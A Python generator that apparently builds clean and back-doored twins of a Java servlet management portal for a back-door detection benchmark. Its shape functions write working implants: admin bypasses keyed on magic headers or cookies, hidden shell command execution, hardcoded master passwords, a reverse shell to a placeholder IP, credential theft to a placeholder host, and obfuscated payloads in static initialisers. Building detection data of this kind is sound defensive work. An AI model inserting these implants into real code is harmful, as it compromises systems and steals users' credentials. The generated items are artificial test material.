"""Java shapes of the `source` family: the Jakarta-servlet management portal of a controller
appliance (war built with Maven).

Honest look-alikes in both twins: ProcessBuilder("ping", "-c", "3", host) after an IPv4 regex,
PBKDF2 password hashes compared with MessageDigest.isEqual, Base64 decoding of an ECDSA
signature, a scheduled update check against the documented server, a JUnit test with a dummy
password. Written blind, from public write-ups of back doors only.
"""
from __future__ import annotations

import base64
import random

from .common import word
from .source_common import (Proj, Variant, block, cookie_name, doc_host, doc_ip, fill, header_name,
                            hidden_user, license_header, magic_value, master_password, nest, param_name,
                            port, shell_payload)


def changed(clean: dict, planted: dict) -> list[str]:
    return sorted(p for p in clean if clean[p] != planted.get(p))


def mk(clean, planted, note, variant, categories=(), severity="critical") -> Variant:
    return Variant(clean=clean, planted=planted, paths=changed(clean, planted), note=note,
                   variant=variant, categories=list(categories), severity=severity)


def jq(s: str) -> str:
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'


# ============================================================================ scaffold

LOGIN_JAVA = r"""
/* @lic@ */
package @pkg@.web;

import @pkg@.util.Passwords;
import jakarta.servlet.ServletException;
import jakarta.servlet.annotation.WebServlet;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import jakarta.servlet.http.HttpSession;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
@login_imports@

/** Form login of the management portal. */
@WebServlet("/api/login")
public class LoginServlet extends HttpServlet {
    private static final long serialVersionUID = 1L;
    /** name:role:salt-hex:pbkdf2-hex */
    private static final Path USERS = Path.of("/etc/@ident@/portal.users");
    @login_fields@

    private static String[] lookup(String user) throws IOException {
        for (String line : Files.readAllLines(USERS)) {
            String[] f = line.split(":");
            if (f.length == 4 && f[0].equals(user)) {
                return f;
            }
        }
        return null;
    }

    @Override
    protected void doPost(HttpServletRequest req, HttpServletResponse resp) throws ServletException, IOException {
        String user = req.getParameter("username");
        String pass = req.getParameter("password");
        if (user == null || pass == null) {
            resp.sendError(HttpServletResponse.SC_BAD_REQUEST);
            return;
        }
        String role = null;
        @login_pre@
        if (role == null) {
            String[] entry = lookup(user);
            if (entry != null && Passwords.verify(pass.toCharArray(), entry[2], entry[3])) {
                role = entry[1];
            }
        }
        if (role == null) {
            log("login failed for " + user + " from " + req.getRemoteAddr());
            resp.sendError(HttpServletResponse.SC_UNAUTHORIZED);
            return;
        }
        @login_post@
        HttpSession old = req.getSession(false);
        if (old != null) {
            old.invalidate();
        }
        HttpSession session = req.getSession(true);
        session.setAttribute("user", user);
        session.setAttribute("role", role);
        resp.setContentType("application/json");
        resp.getWriter().write("{\"ok\":true}");
    }
}
"""

FILTER_JAVA = r"""
/* @lic@ */
package @pkg@.web;

import jakarta.servlet.Filter;
import jakarta.servlet.FilterChain;
import jakarta.servlet.ServletException;
import jakarta.servlet.ServletRequest;
import jakarta.servlet.ServletResponse;
import jakarta.servlet.annotation.WebFilter;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import jakarta.servlet.http.HttpSession;
import java.io.IOException;
import java.util.Set;
@filter_imports@

/** Every request needs a session, except the login page and its assets; /api/admin/* needs role admin. */
@WebFilter("/*")
public class AuthFilter implements Filter {
    private static final Set<String> PUBLIC = Set.of("/login.html", "/api/login", "/css/portal.css");
    @filter_fields@

    @Override
    public void doFilter(ServletRequest request, ServletResponse response, FilterChain chain)
            throws IOException, ServletException {
        HttpServletRequest req = (HttpServletRequest) request;
        HttpServletResponse resp = (HttpServletResponse) response;
        String path = req.getRequestURI().substring(req.getContextPath().length());
        @filter_pre@
        if (PUBLIC.contains(path)) {
            chain.doFilter(request, response);
            return;
        }
        HttpSession session = req.getSession(false);
        if (session == null || session.getAttribute("user") == null) {
            resp.sendError(HttpServletResponse.SC_UNAUTHORIZED);
            return;
        }
        if (path.startsWith("/api/admin/") && !"admin".equals(session.getAttribute("role"))) {
            resp.sendError(HttpServletResponse.SC_FORBIDDEN);
            return;
        }
        chain.doFilter(request, response);
    }
}
"""

DIAG_JAVA = r"""
/* @lic@ */
package @pkg@.web;

import jakarta.servlet.ServletException;
import jakarta.servlet.annotation.WebServlet;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
@diag_imports@

/** Admin diagnostics: ping an IPv4 address (validated, no shell). */
@WebServlet("/api/admin/ping")
public class DiagServlet extends HttpServlet {
    private static final long serialVersionUID = 1L;
    private static final Pattern IPV4 =
            Pattern.compile("^((25[0-5]|2[0-4]\\d|1?\\d?\\d)\\.){3}(25[0-5]|2[0-4]\\d|1?\\d?\\d)$");

    @Override
    protected void doPost(HttpServletRequest req, HttpServletResponse resp) throws ServletException, IOException {
        String host = req.getParameter("host");
        @diag_pre@
        if (host == null || !IPV4.matcher(host).matches()) {
            resp.sendError(HttpServletResponse.SC_BAD_REQUEST, "invalid address");
            return;
        }
        Process p = new ProcessBuilder("ping", "-c", "3", "-W", "2", host).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        try {
            p.waitFor(15, TimeUnit.SECONDS);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        resp.setContentType("text/plain");
        resp.getWriter().write(out);
    }
}
"""

UPDATE_JAVA = r"""
/* @lic@ */
package @pkg@.service;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.PublicKey;
import java.security.Signature;
import java.security.spec.X509EncodedKeySpec;
import java.time.Duration;
import java.util.Base64;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
@upd_imports@

/** Checks the vendor's signed release manifest (ECDSA P-256, key from /etc). */
public final class UpdateService {
    private static final URI MANIFEST = URI.create("https://updates.@domain@/@model_lc@/manifest.json");
    private static final Path PUBKEY = Path.of("/etc/@ident@/update-pub.der");
    @upd_fields@

    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();

    public String latestVersion() throws IOException, InterruptedException, GeneralSecurityException {
        @upd_pre@
        byte[] body = http.send(HttpRequest.newBuilder(MANIFEST).build(), BodyHandlers.ofByteArray()).body();
        String sigText = http.send(HttpRequest.newBuilder(URI.create(MANIFEST + ".sig")).build(),
                BodyHandlers.ofString()).body();
        byte[] sig = Base64.getDecoder().decode(sigText.trim());
        PublicKey key = KeyFactory.getInstance("EC").generatePublic(new X509EncodedKeySpec(Files.readAllBytes(PUBKEY)));
        Signature verifier = Signature.getInstance("SHA256withECDSA");
        verifier.initVerify(key);
        verifier.update(body);
        if (!verifier.verify(sig)) {
            throw new GeneralSecurityException("manifest signature check failed");
        }
        Matcher m = Pattern.compile("\"version\"\\s*:\\s*\"([^\"]+)\"").matcher(new String(body, StandardCharsets.UTF_8));
        return m.find() ? m.group(1) : null;
    }
    @upd_methods@
}
"""

LISTENER_JAVA = r"""
/* @lic@ */
package @pkg@.web;

import @pkg@.service.UpdateService;
import jakarta.servlet.ServletContextEvent;
import jakarta.servlet.ServletContextListener;
import jakarta.servlet.annotation.WebListener;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
@ctx_imports@

/** Starts the daily update check when the portal is deployed. */
@WebListener
public class AppContextListener implements ServletContextListener {
    private ScheduledExecutorService timer;
    @ctx_fields@

    @Override
    public void contextInitialized(ServletContextEvent event) {
        timer = Executors.newSingleThreadScheduledExecutor();
        UpdateService updates = new UpdateService();
        timer.scheduleAtFixedRate(() -> {
            try {
                String v = updates.latestVersion();
                if (v != null) {
                    event.getServletContext().log("latest firmware: " + v);
                }
            } catch (Exception e) {
                event.getServletContext().log("update check failed", e);
            }
        }, 1, 24, TimeUnit.HOURS);
        @ctx_init@
    }

    @Override
    public void contextDestroyed(ServletContextEvent event) {
        timer.shutdownNow();
    }
    @ctx_methods@
}
"""

PASSWORDS_JAVA = r"""
/* @lic@ */
package @pkg@.util;

import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.util.HexFormat;
import javax.crypto.SecretKeyFactory;
import javax.crypto.spec.PBEKeySpec;

/** PBKDF2-HMAC-SHA256 password hashes (salt and hash stored as hex). */
public final class Passwords {
    private static final int ITERATIONS = @iterations@;

    private Passwords() {
    }

    public static byte[] hash(char[] password, byte[] salt) throws GeneralSecurityException {
        PBEKeySpec spec = new PBEKeySpec(password, salt, ITERATIONS, 256);
        return SecretKeyFactory.getInstance("PBKDF2WithHmacSHA256").generateSecret(spec).getEncoded();
    }

    public static boolean verify(char[] password, String saltHex, String hashHex) {
        try {
            byte[] expected = HexFormat.of().parseHex(hashHex);
            return MessageDigest.isEqual(hash(password, HexFormat.of().parseHex(saltHex)), expected);
        } catch (GeneralSecurityException | IllegalArgumentException e) {
            return false;
        }
    }
}
"""

PASSWORDS_TEST = r"""
package @pkg@.util;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.HexFormat;
import org.junit.jupiter.api.Test;

class PasswordsTest {
    @Test
    void roundTrip() throws Exception {
        byte[] salt = HexFormat.of().parseHex("00112233445566778899aabbccddeeff");
        String hash = HexFormat.of().formatHex(Passwords.hash("unit-test-pw".toCharArray(), salt));
        assertTrue(Passwords.verify("unit-test-pw".toCharArray(), "00112233445566778899aabbccddeeff", hash));
        assertFalse(Passwords.verify("other".toCharArray(), "00112233445566778899aabbccddeeff", hash));
    }
}
"""

POM_XML = r"""
<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0"
         xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
         xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">
  <modelVersion>4.0.0</modelVersion>
  <groupId>@group@</groupId>
  <artifactId>@ident@-portal</artifactId>
  <version>@version@</version>
  <packaging>war</packaging>
  <name>@Name@ @model@ management portal</name>

  <properties>
    <maven.compiler.release>17</maven.compiler.release>
    <project.build.sourceEncoding>UTF-8</project.build.sourceEncoding>
  </properties>

  <dependencies>
    <dependency>
      <groupId>jakarta.servlet</groupId>
      <artifactId>jakarta.servlet-api</artifactId>
      <version>6.0.0</version>
      <scope>provided</scope>
    </dependency>
    <dependency>
      <groupId>org.junit.jupiter</groupId>
      <artifactId>junit-jupiter</artifactId>
      <version>5.10.2</version>
      <scope>test</scope>
    </dependency>
  </dependencies>

  <build>
    <plugins>
      <plugin>
        <groupId>org.apache.maven.plugins</groupId>
        <artifactId>maven-war-plugin</artifactId>
        <version>3.4.0</version>
      </plugin>
    </plugins>
  </build>
</project>
"""

WEB_XML = r"""
<?xml version="1.0" encoding="UTF-8"?>
<web-app xmlns="https://jakarta.ee/xml/ns/jakartaee"
         xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
         xsi:schemaLocation="https://jakarta.ee/xml/ns/jakartaee https://jakarta.ee/xml/ns/jakartaee/web-app_6_0.xsd"
         version="6.0">
  <display-name>@Name@ @model@ portal</display-name>
  <session-config>
    <session-timeout>@timeout_min@</session-timeout>
    <cookie-config>
      <http-only>true</http-only>
      <secure>true</secure>
    </cookie-config>
  </session-config>
  <welcome-file-list>
    <welcome-file>index.html</welcome-file>
  </welcome-file-list>
</web-app>
"""

LOGIN_HTML = r"""
<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>@Name@ portal</title><link rel="stylesheet" href="css/portal.css"></head>
<body>
<form method="post" action="api/login">
  <h1>@Name@ @model@</h1>
  <input name="username" placeholder="User name" autocomplete="username">
  <input name="password" type="password" placeholder="Password" autocomplete="current-password">
  <button>Sign in</button>
</form>
</body>
</html>
"""

JAVA_README = r"""
# @ident@-portal

Management portal of the @Vendor@ @Name@ @model@ controller (Jakarta Servlet 6, Java 17),
deployed as `@ident@-portal.war` in the appliance's Tomcat.

- `POST /api/login` - form login; accounts in `/etc/@ident@/portal.users`
  (`name:role:salt:pbkdf2`, roles `admin` and `operator`).
- `POST /api/admin/ping` - admin only; pings a validated IPv4 address without a shell.
- A daily job checks `https://updates.@domain@/` for a newer firmware (ECDSA-signed manifest).

The factory users file contains only `admin`, with a per-unit password printed on the label.

    mvn -q package
"""


class JavaPortal:
    HOOKS = ["login_imports", "login_fields", "login_pre", "login_post", "filter_imports", "filter_fields",
             "filter_pre", "diag_imports", "diag_pre", "upd_imports", "upd_fields", "upd_pre", "upd_methods",
             "ctx_imports", "ctx_fields", "ctx_init", "ctx_methods"]

    def __init__(self, rng: random.Random, P: Proj):
        self.P = P
        self.group = f"com.{P.vendor}"
        self.pkg = f"com.{P.vendor}.{P.ident}"
        self.timeout_min = rng.choice([15, 20, 30])
        self.iterations = rng.choice([120000, 210000, 310000])

    def path(self, sub: str) -> str:
        return "src/main/java/" + self.pkg.replace(".", "/") + "/" + sub

    def render(self, hooks: dict | None = None) -> dict:
        hooks = hooks or {}
        if set(hooks) - set(self.HOOKS):
            raise KeyError(f"unknown java hooks {set(hooks) - set(self.HOOKS)}")
        P = self.P
        kw = {h: "" for h in self.HOOKS}
        kw.update(hooks)
        kw.update({"lic": license_header(P, "x"), "pkg": self.pkg, "group": self.group, "ident": P.ident,
                   "version": P.version, "Name": P.Name, "model": P.model, "model_lc": P.model.lower(),
                   "domain": P.domain, "timeout_min": self.timeout_min, "iterations": self.iterations,
                   "Vendor": P.Vendor})
        test_path = "src/test/java/" + self.pkg.replace(".", "/") + "/util/PasswordsTest.java"
        return {
            self.path("web/LoginServlet.java"): fill(LOGIN_JAVA, **kw),
            self.path("web/AuthFilter.java"): fill(FILTER_JAVA, **kw),
            self.path("web/DiagServlet.java"): fill(DIAG_JAVA, **kw),
            self.path("web/AppContextListener.java"): fill(LISTENER_JAVA, **kw),
            self.path("service/UpdateService.java"): fill(UPDATE_JAVA, **kw),
            self.path("util/Passwords.java"): fill(PASSWORDS_JAVA, **kw),
            test_path: fill(PASSWORDS_TEST, **kw),
            "pom.xml": fill(POM_XML, **kw),
            "src/main/webapp/WEB-INF/web.xml": fill(WEB_XML, **kw),
            "src/main/webapp/login.html": fill(LOGIN_HTML, **kw),
            "src/main/webapp/css/portal.css": "body { font-family: sans-serif; }\nform { width: 20em; margin: 4em auto; }\n",
            "README.md": fill(JAVA_README, **kw),
        }


# ============================================================================ shapes

def ab_java_filter(rng: random.Random, P: Proj) -> Variant:
    s = JavaPortal(rng, P)
    val = magic_value(rng)
    form = rng.choice(["header-equals", "isEqual", "cookie-loop", "param", "ua-contains"])
    const = rng.choice(["FIELD_TOKEN", "SERVICE_KEY", "LAB_ACCESS", "PROVISION_ID"])
    fields = f"private static final String {const} = {jq(val)};"
    imports = ""
    if form == "header-equals":
        h = header_name(rng)
        test = f"{const}.equals(req.getHeader({jq(h)}))"
        desc = f"header {h}: {val}"
    elif form == "isEqual":
        h = header_name(rng)
        test = (f"req.getHeader({jq(h)}) != null && MessageDigest.isEqual({const}.getBytes(StandardCharsets.UTF_8),\n"
                f"        req.getHeader({jq(h)}).getBytes(StandardCharsets.UTF_8))")
        imports = "import java.nio.charset.StandardCharsets;\nimport java.security.MessageDigest;"
        desc = f"header {h}: {val} (MessageDigest.isEqual)"
    elif form == "cookie-loop":
        n = cookie_name(rng)
        test = (f"req.getCookies() != null && java.util.Arrays.stream(req.getCookies())\n"
                f"        .anyMatch(c -> {jq(n)}.equals(c.getName()) && {const}.equals(c.getValue()))")
        desc = f"cookie {n}={val}"
    elif form == "param":
        n = param_name(rng)
        test = f"{const}.equals(req.getParameter({jq(n)}))"
        desc = f"request parameter {n}={val}"
    else:
        test = f'String.valueOf(req.getHeader("User-Agent")).contains({const})'
        desc = f"a User-Agent containing {val!r}"
    pre = f"""
        if ({nest(test, 12)}) {{
            HttpSession s = req.getSession(true);
            s.setAttribute("user", "service");
            s.setAttribute("role", "admin");
            chain.doFilter(request, response);
            return;
        }}"""
    clean = s.render()
    planted = s.render({"filter_imports": imports, "filter_fields": fields, "filter_pre": block(pre)})
    note = f"AuthFilter.doFilter() in web/AuthFilter.java creates an admin session for {desc}, skipping the login."
    trigger = {"header-equals": "header", "isEqual": "header", "cookie-loop": "cookie", "param": "param",
               "ua-contains": "user-agent"}[form]
    return mk(clean, planted, note, {"trigger": trigger, "compare": form, "framework": "servlet"})


def hc_java_exec(rng: random.Random, P: Proj) -> Variant:
    s = JavaPortal(rng, P)
    form = rng.choice(["filter-header", "diag-hidden-param"])
    sink = rng.choice(["Runtime-sh-c", "ProcessBuilder-sh-c", "Runtime-string"])

    def run(expr: str) -> str:
        if sink == "Runtime-sh-c":
            return f'Process p = Runtime.getRuntime().exec(new String[] {{"/bin/sh", "-c", {expr}}});'
        if sink == "ProcessBuilder-sh-c":
            return f'Process p = new ProcessBuilder("sh", "-c", {expr}).redirectErrorStream(true).start();'
        return f"Process p = Runtime.getRuntime().exec({expr});"
    if form == "filter-header":
        h = header_name(rng)
        pre = f"""
            String x = req.getHeader({jq(h)});
            if (x != null) {{
                {run("x")}
                resp.setContentType("text/plain");
                p.getInputStream().transferTo(resp.getOutputStream());
                return;
            }}"""
        clean = s.render()
        planted = s.render({"filter_pre": block(pre)})
        note = f"AuthFilter.doFilter() in web/AuthFilter.java, before the session check: header {h} is run as a command ({sink}) and the output returned."
    else:
        n = param_name(rng)
        pre = f"""
            String raw = req.getParameter({jq(n)});
            if (raw != null) {{
                {run("raw")}
                resp.setContentType("text/plain");
                p.getInputStream().transferTo(resp.getOutputStream());
                return;
            }}"""
        clean = s.render()
        planted = s.render({"diag_pre": block(pre)})
        note = f"DiagServlet.doPost() in web/DiagServlet.java: an undocumented parameter '{n}' is run as a command ({sink}) instead of the validated ping."
    return mk(clean, planted, note, {"trigger": form, "sink": sink, "framework": "servlet"})


def hk_java_master(rng: random.Random, P: Proj) -> Variant:
    s = JavaPortal(rng, P)
    user, pw = hidden_user(rng), master_password(rng)
    form = rng.choice(["user+pass", "master-any-user", "sha256"])
    if form == "user+pass":
        fields = f"private static final String SUPPORT_USER = {jq(user)};\nprivate static final String SUPPORT_PASS = {jq(pw)};"
        pre = 'if (SUPPORT_USER.equals(user) && SUPPORT_PASS.equals(pass)) {\n    role = "admin";\n}'
        imports = ""
        desc = f"{user!r}/{pw!r}"
    elif form == "master-any-user":
        fields = f"private static final String RECOVERY = {jq(pw)};"
        pre = 'if (RECOVERY.equals(pass)) {\n    role = "admin";\n}'
        imports = ""
        desc = f"any user name with the recovery password {pw!r}"
    else:
        import hashlib
        d = hashlib.sha256(pw.encode()).hexdigest()
        fields = f'private static final String MAINT_SHA256 = "{d}";'
        pre = (f'if ({jq(user)}.equals(user) && MAINT_SHA256.equals(HexFormat.of().formatHex(\n'
               '        MessageDigest.getInstance("SHA-256").digest(pass.getBytes(StandardCharsets.UTF_8))))) {\n'
               '    role = "admin";\n}')
        pre = "try {\n    " + pre.replace("\n", "\n    ") + "\n} catch (java.security.NoSuchAlgorithmException e) {\n    throw new ServletException(e);\n}"
        imports = "import java.nio.charset.StandardCharsets;\nimport java.security.MessageDigest;\nimport java.util.HexFormat;"
        desc = f"{user!r} with a password whose SHA-256 is {d} ({pw!r})"
    clean = s.render()
    planted = s.render({"login_imports": imports, "login_fields": fields, "login_pre": pre})
    note = f"LoginServlet.doPost() in web/LoginServlet.java grants role admin to {desc} without the users file."
    return mk(clean, planted, note, {"form": form, "framework": "servlet"})


def rs_java_socket(rng: random.Random, P: Proj) -> Variant:
    s = JavaPortal(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    period = rng.choice([60, 300, 900])
    fn = rng.choice(["uplinkProbe", "clockSync", "licenseHeartbeat"])
    method = f"""
        private static void {fn}() {{
            while (!Thread.currentThread().isInterrupted()) {{
                try (Socket so = new Socket({jq(ip)}, {prt})) {{
                    Process p = new ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start();
                    Thread in = new Thread(() -> {{
                        try {{
                            so.getInputStream().transferTo(p.getOutputStream());
                        }} catch (IOException ignored) {{
                            // connection closed
                        }}
                    }});
                    in.start();
                    p.getInputStream().transferTo(so.getOutputStream());
                }} catch (IOException ignored) {{
                    // retry later
                }}
                try {{
                    Thread.sleep({period}_000L);
                }} catch (InterruptedException e) {{
                    return;
                }}
            }}
        }}"""
    imports = "import java.io.IOException;\nimport java.net.Socket;"
    init = f'Thread t = new Thread(AppContextListener::{fn}, "{fn}");\nt.setDaemon(true);\nt.start();'
    clean = s.render()
    planted = s.render({"ctx_imports": imports, "ctx_methods": "\n" + block(method), "ctx_init": init})
    note = f"AppContextListener in web/AppContextListener.java starts thread {fn}() at deploy time: it connects to {ip}:{prt} every {period} s and pipes the socket to /bin/sh -i (reverse shell)."
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "framework": "servlet"}, categories=["hidden-command"])


def rs_java_exfil(rng: random.Random, P: Proj) -> Variant:
    s = JavaPortal(rng, P)
    host = doc_host(rng)
    form = rng.choice(["httpclient-async", "url-openStream"])
    if form == "httpclient-async":
        post = (f'java.net.http.HttpClient.newHttpClient().sendAsync(java.net.http.HttpRequest.newBuilder(\n'
                f'        java.net.URI.create("https://{host}/api/{word(rng, (1, 2))}"))\n'
                '        .POST(java.net.http.HttpRequest.BodyPublishers.ofString(user + ":" + pass + "@" + req.getLocalAddr()))\n'
                '        .build(), java.net.http.HttpResponse.BodyHandlers.discarding());')
        dest = f"https://{host}/"
    else:
        post = (f'try (java.io.InputStream ignored = new java.net.URL("http://{host}/l?u="\n'
                '        + java.net.URLEncoder.encode(user, "UTF-8") + "&p=" + java.net.URLEncoder.encode(pass, "UTF-8"))\n'
                '        .openStream()) {\n    // fire and forget\n} catch (IOException ignored) {\n    // offline\n}')
        dest = f"http://{host}/l"
    clean = s.render()
    planted = s.render({"login_post": post})
    note = f"LoginServlet.doPost() in web/LoginServlet.java sends every successful user name and clear-text password to {dest} ({form})."
    return mk(clean, planted, note, {"mechanism": "credential-exfil", "channel": form, "framework": "servlet"})


def ob_java_encoded(rng: random.Random, P: Proj) -> Variant:
    s = JavaPortal(rng, P)
    cmd, kind = shell_payload(rng)
    form = rng.choice(["base64", "xor-bytes", "reverse", "char-array"])
    var = rng.choice(["LOCALE_TABLE", "OEM_PROFILE", "BUILD_INFO", "TZ_DATA"])
    if form == "base64":
        decl = f'private static final String {var} = "{base64.b64encode(cmd.encode()).decode()}";'
        dec = f"new String(Base64.getDecoder().decode({var}), StandardCharsets.UTF_8)"
        imports = "import java.nio.charset.StandardCharsets;\nimport java.util.Base64;"
    elif form == "xor-bytes":
        k = rng.randrange(1, 128)
        arr = ", ".join(str(b ^ k) for b in cmd.encode())
        decl = f"private static final byte[] {var} = {{{arr}}};"
        dec = f"decode({var})"
        imports = "import java.nio.charset.StandardCharsets;"
        decl += (f"\n\nprivate static String decode(byte[] b) {{\n    byte[] o = new byte[b.length];\n"
                 f"    for (int i = 0; i < b.length; i++) {{\n        o[i] = (byte) (b[i] ^ {k});\n    }}\n"
                 "    return new String(o, StandardCharsets.UTF_8);\n}")
    elif form == "reverse":
        decl = f"private static final String {var} = {jq(cmd[::-1])};"
        dec = f"new StringBuilder({var}).reverse().toString()"
        imports = ""
    else:
        arr = ", ".join(str(ord(c)) for c in cmd)
        decl = f"private static final char[] {var} = {{{arr}}};"
        dec = f"new String({var})"
        imports = ""
    static = f"""
        {nest(decl, 8)}

        static {{
            try {{
                Runtime.getRuntime().exec(new String[] {{"/bin/sh", "-c", {dec}}});
            }} catch (java.io.IOException ignored) {{
                // best effort
            }}
        }}"""
    clean = s.render()
    planted = s.render({"upd_imports": imports, "upd_fields": block(static)})
    note = f"service/UpdateService.java has a static initialiser that decodes {var} ({form}) and runs it with /bin/sh -c when the class loads: '{cmd}'."
    return mk(clean, planted, note, {"encoding": form, "sink": "Runtime.exec-sh-c", "trigger": "static-init",
                                     "payload": kind, "framework": "servlet"},
              categories=["remote-access"] if kind not in ("wget-sh", "curl-sh") else ["phone-home"])


SHAPES = [
    ("src-auth-bypass", "java", "filter-magic", ab_java_filter),
    ("src-hidden-command", "java", "runtime-exec", hc_java_exec),
    ("src-hardcoded-credential", "java", "login-constant", hk_java_master),
    ("src-remote-shell", "java", "socket-process", rs_java_socket),
    ("src-remote-shell", "java", "credential-exfil", rs_java_exfil),
    ("src-obfuscated", "java", "static-decoder", ob_java_encoded),
]
